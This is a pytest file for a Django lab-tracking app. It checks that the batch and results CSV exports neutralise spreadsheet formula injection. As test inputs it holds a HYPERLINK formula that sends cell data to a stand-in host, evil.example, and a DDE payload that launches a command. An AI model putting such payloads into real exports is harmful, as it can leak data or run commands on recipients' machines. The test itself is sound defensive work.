"""The batch-list CSV export must not carry spreadsheet formulas from user text.

The export lives in labtrack/web/views/batches.py (being restructured in another branch);
the helper is labtrack.core.csv_safe. Until `batch_list_csv` builds its writer with
`csv_safe.writer(_Echo())` instead of `csv.writer(_Echo())` this test fails, and is
marked as an expected failure; strict, so the wiring turns it into an error that says to
drop the mark.
"""
from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from tests.labtrack.factories import make_batch


def test_formula_in_batch_notes_is_neutralised_in_the_export(login, members, project):
    make_batch(members["chemist"], project, code="NC9.9", notes='=HYPERLINK("http://evil.example/?"&A1,"x")')
    response = login(members["viewer"]).get(reverse("batch_list_csv"))
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    notes = [r["notes"] for r in rows if r["code"] == "NC9.9"]
    assert notes == ['\'=HYPERLINK("http://evil.example/?"&A1,"x")']


def test_formula_in_a_sample_code_is_neutralised_in_the_results_export(login, members, project):
    from labtrack.analyses.models import AnalysisRun, Quantity, RunStatus
    from labtrack.measurements.models import Measurement
    from tests.labtrack.factories import make_sample, mark_accepted

    batch = make_batch(members["chemist"], project, code="NC9.9")
    sample = make_sample(members["chemist"], batch, code="=cmd|' /C calc'!A0")
    m = Measurement.objects.create(sample=sample, technique="saxs")
    run = AnalysisRun.objects.create(project=project, batch=batch, measurement=m, routine="saxs.size_distribution",
                                     requested_by=members["chemist"], status=RunStatus.SUCCEEDED)
    Quantity.objects.create(run=run, name="mean_diameter_nm", value=9.9, unit="nm")
    mark_accepted(run, members["analyst"])
    response = login(members["viewer"]).get(reverse("results_csv"))
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [r["sample"] for r in rows] == ["'=cmd|' /C calc'!A0"]
    assert rows[0]["value"] == "9.9"
